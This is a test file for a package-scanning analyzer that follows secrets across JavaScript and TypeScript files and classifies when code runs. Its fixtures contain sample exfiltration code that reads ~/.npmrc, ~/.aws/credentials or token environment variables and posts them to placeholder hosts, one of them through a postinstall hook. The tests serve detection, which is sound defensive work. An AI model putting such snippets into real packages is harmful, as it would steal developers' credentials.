import { describe, expect, it } from "vitest";
import { resolveSpecifier, entryPoints, moduleName } from "../../../src/analyzers/js/modules.js";
import { analyze, flowSummary, manifest } from "./helpers.js";

const files = (names: string[]): Map<string, Buffer> => new Map(names.map((n) => [n, Buffer.from("")]));

describe("module resolution", () => {
  it("resolves relative files, extensions, index files and .js written for .ts", () => {
    const pkg = files(["lib/a.js", "lib/dir/index.js", "src/b.ts", "c.cjs"]);
    expect(resolveSpecifier(pkg, "index.js", "./lib/a")).toEqual({ file: "lib/a.js" });
    expect(resolveSpecifier(pkg, "lib/a.js", "./dir")).toEqual({ file: "lib/dir/index.js" });
    expect(resolveSpecifier(pkg, "src/x.ts", "./b.js")).toEqual({ file: "src/b.ts" });
    expect(resolveSpecifier(pkg, "lib/a.js", "../c.cjs")).toEqual({ file: "c.cjs" });
    expect(resolveSpecifier(pkg, "index.js", "./missing")).toEqual({ missing: "./missing" });
    expect(resolveSpecifier(pkg, "index.js", "../../outside")).toEqual({ missing: "../../outside" });
  });

  it("names external modules by package", () => {
    expect(moduleName("node:fs")).toBe("fs");
    expect(moduleName("fs/promises")).toBe("fs/promises");
    expect(moduleName("axios/dist/node/axios.cjs")).toBe("axios");
    expect(moduleName("@scope/pkg/sub")).toBe("@scope/pkg");
  });

  it("finds entry points from main, module and the '.' export", () => {
    const pkg = files(["dist/index.cjs", "dist/index.mjs", "dist/other.js", "package.json"]);
    pkg.set("package.json", Buffer.from(JSON.stringify({ main: "dist/index.cjs", exports: { ".": { import: "./dist/index.mjs", require: "./dist/index.cjs" }, "./other": "./dist/other.js" } })));
    expect(entryPoints(pkg)).toEqual(["dist/index.cjs", "dist/index.mjs"]);
  });

  it("a TypeScript source condition beside compiled JavaScript is not an entry point; a TypeScript-only package keeps it", () => {
    const pkg = files(["src/index.ts", "index.cjs", "index.js", "package.json"]);
    pkg.set("package.json", Buffer.from(JSON.stringify({ main: "./index.cjs", exports: { ".": { "@zod/source": "./src/index.ts", import: "./index.js", require: "./index.cjs" } } })));
    expect(entryPoints(pkg)).toEqual(["index.cjs", "index.js"]);
    const tsOnly = files(["src/index.ts", "package.json"]);
    tsOnly.set("package.json", Buffer.from(JSON.stringify({ main: "src/index.ts" })));
    expect(entryPoints(tsOnly)).toEqual(["src/index.ts"]);
  });
});

describe("cross-file flows", () => {
  it("follows a credential read in one file and sent by another (CommonJS)", async () => {
    const facts = await analyze({
      "index.js": "const { collect } = require('./lib/collect');\nconst report = require('./lib/report.js');\nreport(collect());",
      "lib/collect.js": "exports.collect = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');",
      "lib/report.js": "module.exports = function (data) {\n  require('https').request({ hostname: 'r.example.invalid', method: 'POST' }).end(data);\n};",
    });
    expect(flowSummary(facts)).toEqual(["registry-token -> http https://r.example.invalid @lib/report.js:2 (import)"]);
    expect(facts.flows[0]!.steps.map((s) => s.file)).toEqual(["lib/collect.js", "index.js", "lib/report.js"]);
  });

  it("follows ES module imports, named and default, into TypeScript", async () => {
    const facts = await analyze({
      "package.json": JSON.stringify({ name: "p", main: "src/index.ts" }),
      "src/index.ts": "import send from './send.js';\nimport { read } from './read';\nconst data: string = read() as string;\nsend(data!);",
      "src/read.ts": "import * as fs from 'node:fs';\nimport { homedir } from 'node:os';\nexport function read(): string { return fs.readFileSync(`${homedir()}/.aws/credentials`, 'utf8'); }",
      "src/send.ts": "import axios from 'axios';\nexport default async function send(d: string): Promise<void> {\n  await axios.post('https://a.example.invalid/u', { d });\n}",
    });
    expect(flowSummary(facts)).toEqual(["cloud-credentials -> http https://a.example.invalid/u @src/send.ts:3 (import)"]);
  });

  it("resolves the package's own name", async () => {
    const facts = await analyze({
      "package.json": JSON.stringify({ name: "selfref", main: "main.js" }),
      "main.js": "module.exports = { token: () => process.env.GITHUB_TOKEN };",
      "other.js": "const { token } = require('selfref');\nfetch('https://o.example.invalid', { body: token() });",
    });
    expect(flowSummary(facts)).toEqual(["env-secret -> http https://o.example.invalid @other.js:2 (manual)"]);
  });
});

describe("triggers", () => {
  it("top level of the main entry and what it requires at top level is import", async () => {
    const facts = await analyze({ "index.js": "require('./a');", "a.js": "fetch('https://i.example.invalid', { body: process.env.NPM_TOKEN });" });
    expect(flowSummary(facts)).toEqual(["env-secret -> http https://i.example.invalid @a.js:1 (import)"]);
  });

  it("code only inside an exported function is call", async () => {
    const facts = await analyze({ "index.js": "module.exports = function () { fetch('https://c.example.invalid', { body: process.env.NPM_TOKEN }); };" });
    expect(facts.flows[0]!.sink.trigger).toBe("call");
  });

  it("an IIFE or a top-level call of a local function carries the file's trigger", async () => {
    const iife = await analyze({ "index.js": "(function () { fetch('https://c.example.invalid', { body: process.env.NPM_TOKEN }); })();" });
    expect(iife.flows[0]!.sink.trigger).toBe("import");
    const local = await analyze({ "index.js": "main();\nfunction main() { fetch('https://c.example.invalid', { body: process.env.NPM_TOKEN }); }" });
    expect(local.flows[0]!.sink.trigger).toBe("import");
  });

  it("files reached from no entry point or script are manual", async () => {
    const facts = await analyze({ "index.js": "", "tools/x.js": "fetch('https://c.example.invalid', { body: process.env.NPM_TOKEN });" });
    expect(facts.flows[0]!.sink.trigger).toBe("manual");
  });

  it("a postinstall `node file.js` makes that file and its requires install", async () => {
    const facts = await analyze({
      "package.json": manifest({ postinstall: "node scripts/setup.js" }),
      "scripts/setup.js": "require('../lib/go');",
      "lib/go.js": "fetch('https://s.example.invalid', { body: process.env.NPM_TOKEN });",
    });
    expect(flowSummary(facts)).toEqual(["env-secret -> http https://s.example.invalid @lib/go.js:1 (install)"]);
  });
});
